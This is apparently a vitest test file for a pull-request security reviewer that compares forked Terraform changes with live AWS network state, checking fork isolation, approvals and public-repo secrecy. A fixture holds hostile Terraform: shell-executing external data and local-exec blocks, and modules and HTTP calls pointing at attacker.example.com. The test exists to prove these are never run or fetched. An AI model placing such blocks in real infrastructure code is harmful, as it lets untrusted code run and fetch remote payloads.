import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { liveAccount } from '../server/live-account.ts';
import { openScene } from './scene.ts';

// Who proposes from a fork writes what they like, and may see what anyone who reads the pull request may.

const CONFIG = `
accounts: [{ id: "123456789012", name: prod, regions: [us-east-1] }]
code: [{ repo: acme/infra, path: envs/prod, account: prod, region: us-east-1 }]
`;
const RULE = (cidr: string) => `
resource "aws_vpc_security_group_ingress_rule" "more" {
  security_group_id = "sg-web"
  ip_protocol       = "tcp"
  from_port         = 8080
  to_port           = 8080
  cidr_ipv4         = "${cidr}"
}
`;
/** Everything that could make a careless reader run something or fetch something. */
const HOSTILE = `${RULE('0.0.0.0/0')}
data "external" "run" { program = ["sh", "-c", "touch /tmp/owned"] }
data "http" "call" { url = "http://attacker.example.com/" }
module "elsewhere" { source = "git::https://attacker.example.com/module.git" }
module "archive" { source = "https://attacker.example.com/module.zip" }
module "registry" {
  source  = "attacker.example.com/acme/net/aws"
  version = "1.0.0"
}
resource "null_resource" "run" {
  provisioner "local-exec" { command = "touch /tmp/owned" }
}
`;

async function openForked(isPublic: boolean) {
  const scene = await openScene({
    config: CONFIG,
    files: { 'envs/prod/main.tf': RULE('10.0.0.0/16') },
    account: () => liveAccount([], ''),
    isPublic,
  });
  const propose = async (branch: string, text: string) => {
    const fork = scene.github.as('eve').fork('acme/infra');
    scene.github.as('eve').commit(fork, { branch, message: branch, files: { 'envs/prod/main.tf': text } });
    const number = scene.github.as('eve').openPullRequest('acme/infra', { title: branch, head: `eve:${branch}` });
    await scene.quiet();
    return number;
  };
  return { ...scene, propose };
}

describe('of a private repository', () => {
  let scene: Awaited<ReturnType<typeof openForked>>;
  beforeAll(async () => {
    scene = await openForked(false);
  });
  afterAll(() => scene.close());

  it('is compared with what is live: everyone who can see it belongs to the organisation', async () => {
    const number = await scene.propose('open', RULE('0.0.0.0/0'));
    expect(scene.check(number).conclusion).toBe('failure');
    expect(scene.comment(number)).toContain('| 🔴 opened | internet | web · 1 interface | tcp 8080');
    expect(scene.comment(number)).toContain('over the snapshot of 2026-03-01 10:00 UTC');
  });

  it('never has its code run, nor anything fetched from where it names', async () => {
    let number = 0;
    const requests = await scene.urls(async () => {
      number = await scene.propose('hostile', HOSTILE);
    });
    expect(requests.filter((url) => new URL(url).hostname !== '127.0.0.1')).toEqual([]);
    expect(scene.comment(number)).toMatchInlineSnapshot(`
      "<!-- sallyport:v1 review acme/infra#2 -->
      ### 🔴 1 opened to the internet · 3 not understood — prod, us-east-1

      - ✗ Policy: nothing may be opened to the internet (1 row)

      |  | from | to | service | because |
      |---|---|---|---|---|
      | 🔴 opened | internet | web · 1 interface | tcp 8080 (HTTP) | \`envs/prod/main.tf:7\` web (sg-web) ingress tcp 8080 from 0.0.0.0/0 |

      <details><summary>Graph</summary>

      \`\`\`mermaid
      graph LR
        n0["internet"]
        n1["web · 1 interface"]
        n0 ==>|"tcp 8080 (HTTP)"| n1
        linkStyle 0 stroke:#d1242f
      \`\`\`

      </details>

      <details><summary>Proof: packets that would get through</summary>

      **internet → web · 1 interface: tcp 8080 (HTTP)**

      Packet \`tcp 1.0.0.0:1024 → 203.0.113.9:8080\`

      Its way there:

      1. enters vpc-1 through igw-1
      2. ✓ acl-1 ingress entry 100 allows all traffic from 0.0.0.0/0
      3. ✓ web (sg-web) ingress tcp 8080 from 0.0.0.0/0
      4. eni-1

      The reply:

      1. ✓ acl-1 egress entry 100 allows all traffic to 0.0.0.0/0
      2. rtb-1 routes 0.0.0.0/0 → igw-1
      3. leaves vpc-1 through igw-1

      </details>

      <details><summary>Not understood (3)</summary>

      - envs/prod: module.elsewhere comes from git::https:​//attacker.example.com/module.git, which is not in the repository (envs/prod/main.tf:12) (decided by: the plan, from a branch of this repository, left as workflow artifact sallyport-plan)
      - envs/prod: module.archive comes from https:​//attacker.example.com/module.zip, which is not in the repository (envs/prod/main.tf:13) (decided by: the plan, from a branch of this repository, left as workflow artifact sallyport-plan)
      - envs/prod: module.registry comes from attacker.example.com/acme/net/aws, which is not in the repository (envs/prod/main.tf:14) (decided by: the plan, from a branch of this repository, left as workflow artifact sallyport-plan)

      </details>

      <sub>Compared \`sha\` with \`sha\`. envs/prod: Terraform code over the snapshot of 2026-03-01 10:00 UTC (0 min old); resources found in the account: 1 of 1 that the code refers to.</sub>"
    `);
  });

  it('has its plan ignored: whoever pushes there writes the workflow, too', async () => {
    const number = await scene.propose('planned', RULE('0.0.0.0/0'));
    const { headSha } = scene.check(number);
    const before = scene.comment(number);
    scene.github.as('ada').runWorkflow('acme/infra', {
      headSha,
      artifact: 'sallyport-plan',
      files: { 'plan.json': '{"format_version":"1.2"}' },
    });
    await scene.quiet();
    const runs = scene.pull(number).checkRuns.length;
    scene.github.as('ada').rerequestChecks('acme/infra', number);
    await scene.quiet();
    expect(scene.pull(number).checkRuns).toHaveLength(runs + 1);
    expect(scene.comment(number)).toBe(before);
  });

  it('may be approved by those who may write here, and not by its author', async () => {
    const number = await scene.propose('approved', RULE('0.0.0.0/0'));
    scene.github.as('eve').comment('acme/infra', number, '/sallyport approve it is mine');
    await scene.quiet();
    expect(scene.check(number).conclusion).toBe('failure');
    scene.github.as('bob').comment('acme/infra', number, '/sallyport approve seen');
    await scene.quiet();
    expect(scene.check(number).conclusion).toBe('success');
  });
});

describe('of a public repository', () => {
  let scene: Awaited<ReturnType<typeof openForked>>;
  beforeAll(async () => {
    scene = await openForked(true);
  });
  afterAll(() => scene.close());

  it('gets counts and nothing else', async () => {
    const number = await scene.propose('open', RULE('0.0.0.0/0'));
    expect(scene.pull(number).comments).toEqual([]);
    expect(scene.pull(number).reviewComments).toEqual([]);
    const { conclusion, title, summary, annotations } = scene.check(number);
    expect({ conclusion, title, summary, annotations }).toMatchInlineSnapshot(`
      {
        "annotations": [],
        "conclusion": "failure",
        "summary": "### 🔴 1 opened to the internet

      This repository is public, and details of exposures are secrets: it is told counts only.",
        "title": "🔴 1 opened to the internet",
      }
    `);
  });
});
